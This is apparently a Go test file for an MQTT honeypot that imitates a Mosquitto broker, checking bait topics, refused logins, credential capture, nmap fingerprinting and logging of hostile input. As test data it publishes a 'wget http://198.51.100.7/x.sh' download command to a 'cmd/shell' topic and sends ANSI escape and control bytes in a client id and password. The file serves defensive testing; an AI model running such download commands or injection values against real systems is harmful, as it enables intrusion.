package mqtt

import (
	"encoding/base64"
	"io"
	"net"
	"regexp"
	"strings"
	"testing"
	"time"

	"decnet/internal/event"
	"decnet/internal/service"
	"decnet/internal/service/servicetest"
)

const wait = 10 * time.Second

func start(t *testing.T, persona map[string]string) (*servicetest.Harness, string, string) {
	t.Helper()
	h := servicetest.Start(t, "mqtt", service.Config{Decky: "decky-07", Hostname: "hub", Persona: persona})
	host, port, _ := net.SplitHostPort(h.Addr(1883))
	return h, host, port
}

// TestMosquittoSubSeesBait subscribes anonymously with mosquitto_sub (3.1.1 and 5):
// the retained bait arrives, $SYS names Mosquitto, and the CONNECT and SUBSCRIBE
// are recorded.
func TestMosquittoSubSeesBait(t *testing.T) {
	h, host, port := start(t, nil)
	for _, v := range []string{"mqttv31", "mqttv311", "mqttv5"} {
		out, err := servicetest.Run(t, 30*time.Second, nil, "mosquitto_sub", "-h", host, "-p", port, "-V", v, "-i", "cli-"+v,
			"-t", "home/#", "-t", "$SYS/broker/version", "-v", "-C", "5", "-W", "10")
		if err != nil {
			t.Fatalf("mosquitto_sub -V %s: %v\n%s", v, err, out)
		}
		if !strings.Contains(out, "$SYS/broker/version mosquitto version 2.0.18") ||
			!regexp.MustCompile(`home/hub/livingroom/temperature \d\d\.\d`).MatchString(out) ||
			!strings.Contains(out, "home/hub/frontdoor/lock locked") {
			t.Fatalf("mosquitto_sub -V %s did not get the bait:\n%s", v, out)
		}
		proto := map[string]string{"mqttv31": "MQTT 3.1", "mqttv311": "MQTT 3.1.1", "mqttv5": "MQTT 5.0"}[v]
		e := h.Wait(t, wait, "connect "+v, servicetest.Type(event.Auth, "client_id=cli-"+v))
		if e.Fields["protocol"] != proto || e.Fields["anonymous"] != "true" || e.Fields["outcome"] != "success" || e.AttackerIP != "127.0.0.1" {
			t.Errorf("connect event wrong: %+v", e.Fields)
		}
		h.Wait(t, wait, "subscribe "+v, servicetest.Type(event.Command, "command=SUBSCRIBE", "topic=home/#,$SYS/broker/version", "count=2"))
	}
}

// TestMosquittoLoginRefused logs in with a wrong password against a password
// file: the client prints Mosquitto's refusal and the credential is captured.
func TestMosquittoLoginRefused(t *testing.T) {
	h, host, port := start(t, map[string]string{"users": "iot:Sensor2024!", "allow_anonymous": "false"})
	for _, v := range []string{"mqttv311", "mqttv5"} {
		pw := `wr]ng"` + v
		out, err := servicetest.Run(t, 30*time.Second, nil, "mosquitto_pub", "-h", host, "-p", port, "-V", v, "-i", "pub-"+v,
			"-u", "admin", "-P", pw, "-t", "x", "-m", "y")
		if err == nil || !strings.Contains(out, "Connection error: Connection Refused: not authorised.") && !strings.Contains(out, "Connection error: Not authorized") {
			t.Fatalf("mosquitto_pub -V %s was not refused like Mosquitto (%v):\n%s", v, err, out)
		}
		t.Logf("%s: %s", v, out)
		if v == "mqttv311" && !strings.Contains(out, "Connection Refused: not authorised.") {
			t.Errorf("3.1.1 refusal text: %s", out)
		}
		e := h.Wait(t, wait, "refused login "+v, servicetest.Type(event.Auth, "client_id=pub-"+v))
		if e.Fields["username"] != "admin" || e.Fields["password"] != pw || e.Fields["secret_b64"] != base64.StdEncoding.EncodeToString([]byte(pw)) ||
			e.Fields["secret_kind"] != "plaintext" || e.Fields["outcome"] != "failure" || !e.IsCredential() {
			t.Errorf("credential event wrong: %+v", e.Fields)
		}
	}
	// Anonymous is refused too; the right password gets in and its PUBLISH is recorded.
	out, err := servicetest.Run(t, 30*time.Second, nil, "mosquitto_pub", "-h", host, "-p", port, "-t", "x", "-m", "y")
	if err == nil || !strings.Contains(out, "not authorised") {
		t.Fatalf("anonymous publish was not refused (%v):\n%s", err, out)
	}
	out, err = servicetest.Run(t, 30*time.Second, nil, "mosquitto_pub", "-h", host, "-p", port, "-V", "mqttv5", "-u", "iot", "-P", "Sensor2024!",
		"-t", "cmd/shell", "-m", "wget http://198.51.100.7/x.sh\x1b[31m", "-r", "-q", "1")
	if err != nil {
		t.Fatalf("valid login refused (%v):\n%s", err, out)
	}
	h.Wait(t, wait, "good login", servicetest.Type(event.Auth, "username=iot", "password=Sensor2024!", "outcome=success"))
	e := h.Wait(t, wait, "publish", servicetest.Type(event.Command, "command=PUBLISH", "topic=cmd/shell"))
	raw := "wget http://198.51.100.7/x.sh\x1b[31m"
	if e.Fields["payload"] != `wget http://198.51.100.7/x.sh\x1b[31m` || e.Fields["payload_b64"] != base64.StdEncoding.EncodeToString([]byte(raw)) ||
		e.Fields["retain"] != "true" || e.Fields["qos"] != "1" || e.Fields["payload_size"] != "34" {
		t.Errorf("publish event wrong: %+v", e.Fields)
	}
	// The retained message is there for the next client, as on a real broker.
	out, err = servicetest.Run(t, 30*time.Second, nil, "mosquitto_sub", "-h", host, "-p", port, "-u", "iot", "-P", "Sensor2024!", "-t", "cmd/#", "-v", "-C", "1", "-W", "10")
	if err != nil || !strings.Contains(out, "cmd/shell wget http://198.51.100.7/x.sh") {
		t.Fatalf("retained publish not delivered (%v):\n%s", err, out)
	}
}

// TestNmap identifies the broker (-sV) and lists the bait with mqtt-subscribe.
func TestNmap(t *testing.T) {
	h, _, port := start(t, nil)
	// nmap's MQTT probe finds the service and its mqtt-subscribe script (a
	// version script, run by -sV) names it after $SYS/broker/version, as it
	// does for a real Mosquitto.
	out, err := servicetest.Run(t, 4*time.Minute, nil, "nmap", "-Pn", "-sV", "--version-all", "--script", "mqtt-subscribe", "-p", port, "127.0.0.1")
	if err != nil {
		t.Fatalf("nmap: %v\n%s", err, out)
	}
	if !regexp.MustCompile(`(?m)^` + port + `/tcp\s+open\s+mosquitto version 2\.0\.18`).MatchString(out) {
		t.Fatalf("mqtt-subscribe did not name the persona's Mosquitto:\n%s", out)
	}
	if !strings.Contains(out, "$SYS/broker/version: mosquitto version 2.0.18") || !strings.Contains(out, "home/hub/frontdoor/lock: locked") {
		t.Fatalf("mqtt-subscribe did not list the bait:\n%s", out)
	}
	h.Wait(t, wait, "nmap subscribe", servicetest.Type(event.Command, "command=SUBSCRIBE"))
}

// TestHostileCredential sends a raw MQTT 3.1.1 CONNECT whose client id and
// password hold bytes that must survive to the event exactly (the password is
// binary in MQTT; the client id is UTF-8 with a newline, quote, bracket and ANSI
// escape).
func TestHostileCredential(t *testing.T) {
	h, host, port := start(t, map[string]string{"users": "a:b"})
	c, err := net.DialTimeout("tcp", net.JoinHostPort(host, port), wait)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(wait))
	str := func(s string) []byte { return append([]byte{byte(len(s) >> 8), byte(len(s))}, s...) }
	id, user, pw := "x]\"\n\x1b[2J", "ad]min", "p\xff\x00w\r\n"
	vh := append([]byte{0, 4, 'M', 'Q', 'T', 'T', 4, 0xC2, 0, 60}, str(id)...)
	vh = append(append(vh, str(user)...), str(pw)...)
	pkt := append([]byte{0x10, byte(len(vh))}, vh...)
	if _, err := c.Write(pkt); err != nil {
		t.Fatal(err)
	}
	ack := make([]byte, 4)
	if _, err := io.ReadFull(c, ack); err != nil || ack[0] != 0x20 || ack[3] != 5 {
		t.Fatalf("CONNACK %x (%v), want return code 5 (not authorised)", ack, err)
	}
	e := h.Wait(t, wait, "hostile connect", servicetest.Type(event.Auth, "username=ad]min"))
	if e.Fields["secret_b64"] != base64.StdEncoding.EncodeToString([]byte(pw)) || e.Fields["password"] != `p\xff\x00w\x0d\x0a` {
		t.Errorf("password fields %q %q", e.Fields["password"], e.Fields["secret_b64"])
	}
	if raw, _ := base64.StdEncoding.DecodeString(e.Fields["client_id_b64"]); string(raw) != id || e.Fields["client_id"] != `x]"\x0a\x1b[2J` {
		t.Errorf("client id fields %q %q", e.Fields["client_id"], e.Fields["client_id_b64"])
	}
}

// TestAssignedClientID: an MQTT 5 client without a client id is named like
// Mosquitto names it.
func TestAssignedClientID(t *testing.T) {
	h, host, port := start(t, nil)
	out, err := servicetest.Run(t, 30*time.Second, nil, "mosquitto_sub", "-h", host, "-p", port, "-V", "mqttv5", "-t", "zigbee2mqtt/#", "-C", "1", "-W", "10", "-d")
	if err != nil {
		t.Fatalf("mosquitto_sub: %v\n%s", err, out)
	}
	if !regexp.MustCompile(`auto-[0-9A-F]{8}-[0-9A-F]{4}-[0-9A-F]{4}-[0-9A-F]{4}-[0-9A-F]{12}`).MatchString(out) {
		t.Errorf("client id not Mosquitto-like:\n%s", out)
	}
	h.Wait(t, wait, "connect", servicetest.Type(event.Auth, "protocol=MQTT 5.0", "client_id="))
}
